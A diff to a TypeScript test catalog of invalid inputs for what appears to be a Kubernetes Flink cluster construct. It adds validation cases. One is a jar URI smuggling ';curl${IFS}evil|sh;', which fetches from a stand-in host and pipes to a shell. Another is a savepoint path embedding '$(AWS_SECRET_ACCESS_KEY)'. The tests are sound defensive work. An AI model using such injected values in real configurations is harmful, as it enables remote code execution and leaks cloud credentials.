@@ -31,6 +31,18 @@ const row = (title: string, input: string, run: () => void, message: string): Ba
 /** The catalog. Messages were taken from the code and read for clarity. */
 export const BAD_INPUTS: BadInput[] = [
   row(
+    'jar path that would reach a shell',
+    'job: { jarUri: "local:///opt/flink/usrlib/a.jar;curl${IFS}evil|sh;.jar" }',
+    ex((p) => ({ job: { ...p.job, jarUri: 'local:///opt/flink/usrlib/a.jar;curl${IFS}evil|sh;.jar' } })),
+    'job.jarUri: "local:///opt/flink/usrlib/a.jar;curl${IFS}evil|sh;.jar" - may contain only letters, digits and "._+@/-" (no spaces, quotes, "$", ";", globs or ".." segments), as it reaches a shell and a command line; rename the jar, e.g. local:///opt/flink/usrlib/my-job-1.0.jar',
+  ),
+  row(
+    'storage URI with "$(...)" (kubelet expansion)',
+    'job: { initialSavepointPath: "s3://bucket/sp/$(AWS_SECRET_ACCESS_KEY)" }',
+    ex((p) => ({ job: { ...p.job, initialSavepointPath: 's3://bucket/sp/$(AWS_SECRET_ACCESS_KEY)' } })),
+    'job.initialSavepointPath: "s3://bucket/sp/$(AWS_SECRET_ACCESS_KEY)" - may contain only letters, digits and "._~:/@%+=,-" (no quotes, "$", "#", "?", ";" or backslashes); percent-encode anything else, e.g. %20 for a space',
+  ),
+  row(
     'props not an object',
     'new FlinkCluster(chart, "F", undefined as any)',
     () => synthCluster(undefined as any),
